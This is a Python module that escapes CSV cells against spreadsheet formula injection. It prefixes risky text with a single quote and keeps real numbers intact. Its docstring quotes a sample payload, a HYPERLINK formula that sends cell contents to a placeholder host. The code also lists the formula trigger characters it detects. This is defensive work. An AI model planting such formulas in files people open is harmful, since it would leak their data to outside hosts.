"""CSV files meant to be opened in a spreadsheet, safe against formula injection.

A delivered cell such as ``=HYPERLINK("http://x?"&A1)`` or ``@SUM(...)`` is
harmless text in the warehouse but becomes a live formula when a CSV export is
opened in Excel or LibreOffice (CSV injection). Following the OWASP guidance,
every text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is written with a leading single quote, which spreadsheets
show as text and never evaluate. The CSV itself is quoted as usual, so
delimiters and quotes inside a cell stay inside it.

Real numbers are kept intact: an ``int``/``float``/``Decimal`` value is
written as a number, and a text cell that is entirely a plain negative number
(``-12`` or ``-0.5``; digits and one optional decimal point only) is left
alone because a spreadsheet reads it as that number and nothing else — it can
carry no function call, cell reference or operator. Anything more (``-1+2``,
``-2e3``, ``-A1``) is escaped.

Use ``write_csv`` (or ``write_frame`` for a pandas DataFrame) for every CSV a
person may open; ``escape_cell`` for one value.
"""

from __future__ import annotations

import csv
import math
import re
from decimal import Decimal
from pathlib import Path
from typing import Any, Iterable, Sequence

from leadhub.core.files import atomic_write

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NEGATIVE_NUMBER = re.compile(r"^-\d+(\.\d+)?$")


def escape_cell(value: Any) -> Any:
    """The value as it may safely appear in a spreadsheet-bound CSV cell.

    None and NaN become an empty cell; numbers and booleans pass through;
    text starting with a formula character gets a leading ``'``.
    """
    if value is None:
        return ""
    if isinstance(value, float) and math.isnan(value):
        return ""
    if isinstance(value, (bool, int, float, Decimal)):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NEGATIVE_NUMBER.match(text):
        return "'" + text
    return text


def write_csv(path: Path, header: Sequence[str], rows: Iterable[Sequence[Any]], *,
              delimiter: str = ",", encoding: str = "utf-8") -> int:
    """Write header and rows to ``path`` with every cell escaped; returns the number of data rows.

    Written atomically (``path.tmp``, renamed), so a reader never sees half a file; the
    mode is left to the umask because these files are handed to readers.
    """
    count = 0
    with atomic_write(path, text=True, mode=None, encoding=encoding, newline="") as f:
        out = csv.writer(f, delimiter=delimiter, quoting=csv.QUOTE_MINIMAL, lineterminator="\n")
        out.writerow([escape_cell(h) for h in header])
        for row in rows:
            out.writerow([escape_cell(v) for v in row])
            count += 1
    return count


def write_frame(path: Path, frame, **kwargs) -> int:
    """``write_csv`` for a pandas DataFrame (index not written; missing values as empty cells)."""
    clean = frame.astype(object).where(frame.notna(), None)
    return write_csv(path, [str(c) for c in clean.columns], clean.itertuples(index=False, name=None), **kwargs)
